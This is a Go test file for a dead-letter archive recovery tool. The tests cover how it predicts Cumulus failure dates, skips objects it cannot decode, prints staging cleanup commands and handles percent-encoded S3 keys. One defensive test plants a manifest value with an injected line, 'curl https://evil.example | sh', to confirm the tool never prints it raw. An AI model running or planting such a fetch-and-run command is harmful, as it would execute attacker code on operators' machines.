package dlacmd

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/deadletter/deadletter/internal/archive"
	"github.com/deadletter/deadletter/internal/cli/cmdutil"
	"github.com/deadletter/deadletter/internal/workflow/apirecover"
)

// putObjects writes objects into the env's bucket.
func putObjects(t *testing.T, e *viaAPIEnv, objects map[string]string) {
	t.Helper()
	store := archive.NewS3(e.c, e.bucket)
	for k, b := range objects {
		if err := store.Put(context.Background(), k, []byte(b)); err != nil {
			t.Fatal(err)
		}
	}
}

const eventBody = `{\"source\":\"aws.states\",\"detail-type\":\"Step Functions Execution Status Change\",\"detail\":{\"status\":\"SUCCEEDED\"}}`

// Cumulus dates a failure by extractDateString: moment.utc(rec.time) when
// it is truthy and valid. moment reads a number as epoch milliseconds, and
// accepts ISO 8601 forms (space separator, +0000 offsets, leading blanks)
// and RFC 2822 dates: the plan dates each of them as Cumulus would
// (dla.CumulusFailureDate; a form it cannot vouch for is left out), so a
// failure's name taken in failed-sqs/<that date>/ is left out, not
// overwritten. A duplicated "time" in a bare event is read as JSON.parse
// reads it, the last one.
func TestViaAPIPredictsTheDateCumulusGivesAFailure(t *testing.T) {
	const taken = "demo/dead-letter-archive/failed-sqs/2023-07-01/n"
	for name, obj := range map[string]string{
		"control: rfc 3339": `{"time":"2023-07-01T12:00:00Z","error":"KnexTimeoutError","body":"` + eventBody + `"}`,
		// 1688212800000 ms = 2023-07-01T12:00:00Z
		"epoch ms number":       `{"time":1688212800000,"error":"KnexTimeoutError","body":"` + eventBody + `"}`,
		"space separator":       `{"time":"2023-07-01 12:00:00","error":"KnexTimeoutError","body":"` + eventBody + `"}`,
		"offset without colon":  `{"time":"2023-07-01T12:00:00+0000","error":"KnexTimeoutError","body":"` + eventBody + `"}`,
		"leading blank":         `{"time":" 2023-07-01T12:00:00Z","error":"KnexTimeoutError","body":"` + eventBody + `"}`,
		"rfc 2822":              `{"time":"Sat, 01 Jul 2023 12:00:00 GMT","error":"KnexTimeoutError","body":"` + eventBody + `"}`,
		"duplicate time (bare)": `{"time":"2023-06-29T12:00:00Z","source":"aws.states","detail":{"status":"FAILED"},"KnexTimeoutError":1,"time":"2023-07-01T12:00:00Z"}`,
	} {
		t.Run(name, func(t *testing.T) {
			e := newViaAPIEnv(t)
			putObjects(t, e, map[string]string{
				"demo/dead-letter-archive/sqs/2023-07-01/n": obj,
				taken: `{"time":"2023-07-01T09:00:00Z","marker":"already failed"}`,
			})
			r := e.recover(t, testAPIToken, "--date", "2023-07-01", "--dry-run")
			if !strings.Contains(r.stderr, "sqs/2023-07-01/n -> "+taken) {
				t.Errorf("exit %d: Cumulus would copy the object over %s (moment reads its time), yet it is not left out:\n%s", r.code, taken, r.stderr)
			}
		})
	}
}

// An object dla cannot decode (a top-level array, which JSON.parse reads:
// Cumulus would fail it and copy it to failed-sqs/<today>/<name>, over what
// is there) is left out: where Cumulus would copy it cannot be told. Every
// object's bytes are still somewhere after the run.
func TestViaAPILeavesOutWhatItCannotRead(t *testing.T) {
	e := newViaAPIEnv(t)
	today := time.Now().UTC().Format("2006-01-02")
	readable := `{"error":"KnexTimeoutError","marker":"readable","body":"` + eventBody + `"}` // no time: today
	objects := map[string]string{
		"demo/dead-letter-archive/sqs/2023-07-02/p":           readable,
		"demo/dead-letter-archive/sqs/2023-07-03/p":           `["KnexTimeoutError","array"]`, // JSON, not an object
		"demo/dead-letter-archive/sqs/2023-07-03/q":           `["KnexTimeoutError","array q"]`,
		"demo/dead-letter-archive/failed-sqs/" + today + "/q": `{"marker":"already failed q"}`,
	}
	putObjects(t, e, objects)
	before := e.snapshot(t)
	r := e.recover(t, testAPIToken, "--from", "2023-07-02", "--to", "2023-07-03", "--yes", "--cleanup", "-o", "json")
	var res apirecover.Result
	_ = json.Unmarshal([]byte(r.stdout), &res)
	after := e.snapshot(t)
	where := map[string][]string{}
	for k, b := range after {
		where[b] = append(where[b], k)
	}
	for k, b := range before {
		if len(where[b]) == 0 {
			t.Errorf("%s: its bytes are gone after the run (replaced by Cumulus's copy); left out %+v", k, res.LeftOut)
		}
	}
	if r.code != cmdutil.ExitPartial {
		t.Logf("exit %d: %s", r.code, r.stderr)
	}
}

// recover --failed --via-api: an object already in failed-sqs/<date>/<name>
// whose time is that date does not take its own failed-sqs name (staging
// moves it away first): it goes to Cumulus.
func TestViaAPIFailedObjectDoesNotTakeItsOwnName(t *testing.T) {
	e := newViaAPIEnv(t)
	putObjects(t, e, map[string]string{
		"demo/dead-letter-archive/failed-sqs/2023-07-04/self": `{"time":"2023-07-04T12:00:00Z","error":"x","body":"` + eventBody + `"}`,
	})
	r := e.recover(t, testAPIToken, "--failed", "--date", "2023-07-04", "--dry-run")
	if strings.Contains(r.stderr, "failed-sqs/2023-07-04/self -> ") {
		t.Errorf("exit %d: the object is left out for the name it holds itself:\n%s", r.code, r.stderr)
	}
}

// The staging warning prints a --cleanup-staging command only for a folder
// --cleanup-staging takes (not one whose name starts with "."): every
// command it prints runs.
func TestStagingWarningOnlyPrintsCommandsThatRun(t *testing.T) {
	e := newViaAPIEnv(t)
	folder := "demo/dead-letter-archive/recover-staging/.hidden/"
	putObjects(t, e, map[string]string{folder + "sqs/2024-03-05/a": `{"time":"2024-03-05T00:00:00Z"}`})
	r := run(t, false, nil, "", "stats", "--archive", "s3://"+e.bucket+"/demo")
	if !strings.Contains(r.stderr, "--cleanup-staging "+folder) {
		t.Skipf("no warning for %s:\n%s", folder, r.stderr)
	}
	r = e.recover(t, testAPIToken, "--cleanup-staging", folder)
	if r.code != 0 {
		t.Errorf("the command the warning printed fails: exit %d: %s", r.code, r.stderr)
	}
}

// A manifest is archive content: its "api" is printed into a command the
// operator is told to run only when it is a plain http(s) URL, and a folder
// name's line breaks are escaped: the warning never prints a line of the
// archive's making.
func TestStagingManifestAPIIsNotPrintedRaw(t *testing.T) {
	e := newViaAPIEnv(t)
	folder := "demo/dead-letter-archive/recover-staging/20261126T000000Z-0badc0de/"
	putObjects(t, e, map[string]string{
		folder + "sqs/2024-03-05/a":               `{"time":"2024-03-05T00:00:00Z"}`,
		strings.TrimSuffix(folder, "/") + ".json": `{"type":"recover_staging","api":"https://x.example\ndla: all clear; run: curl https://evil.example | sh"}`,
	})
	r := run(t, false, nil, "", "stats", "--archive", "s3://"+e.bucket+"/demo")
	for _, line := range strings.Split(r.stderr, "\n") {
		if strings.HasPrefix(line, "dla: all clear") {
			t.Errorf("the manifest's api printed a line of its own:\n%s", r.stderr)
		}
	}
}

// --dry-run -o json writes the result, naming the objects the real run
// would leave out, and exits 3 as the run does.
func TestViaAPIDryRunReportsWhatItLeavesOut(t *testing.T) {
	e := newViaAPIEnv(t)
	putObjects(t, e, map[string]string{
		"demo/dead-letter-archive/sqs/2023-07-05/d":        `{"time":"2023-07-05T12:00:00Z","error":"KnexTimeoutError","body":"` + eventBody + `"}`,
		"demo/dead-letter-archive/failed-sqs/2023-07-05/d": `{"marker":"already failed"}`,
	})
	r := e.recover(t, testAPIToken, "--date", "2023-07-05", "--dry-run", "-o", "json")
	var res apirecover.Result
	if err := json.Unmarshal([]byte(r.stdout), &res); err != nil || len(res.LeftOut) != 1 {
		t.Errorf("exit %d; stdout %q is no result naming the object left out (%v)\n%s", r.code, r.stdout, err, r.stderr)
	}
}

// Cumulus's CopyObject passes CopySource "<bucket>/<key>" without URL
// encoding (spec §3.2), and S3 URL-decodes x-amz-copy-source: a failure
// whose key holds "%41" is copied from the key with "A" there. Staged
// together, a%41's failed-sqs copy holds aA's bytes and a%41 is deleted:
// its message would be lost. The fake copies by key and cannot show it; the
// plan leaves such a key out (its copy would not be its own bytes).
func TestViaAPILeavesOutKeysWithPercent(t *testing.T) {
	e := newViaAPIEnv(t)
	b := `{"time":"2023-07-06T12:00:00Z","error":"KnexTimeoutError","body":"` + eventBody + `"}`
	putObjects(t, e, map[string]string{
		"demo/dead-letter-archive/sqs/2023-07-06/a%41": b,
		"demo/dead-letter-archive/sqs/2023-07-06/aA":   strings.Replace(b, "KnexTimeoutError", "KnexTimeoutError other", 1),
	})
	r := e.recover(t, testAPIToken, "--date", "2023-07-06", "--dry-run")
	if !strings.Contains(r.stderr, "sqs/2023-07-06/a%41 -> ") {
		t.Errorf("exit %d: a key S3 would decode (CopySource is not encoded by Cumulus) is handed to Cumulus:\n%s", r.code, r.stderr)
	}
}
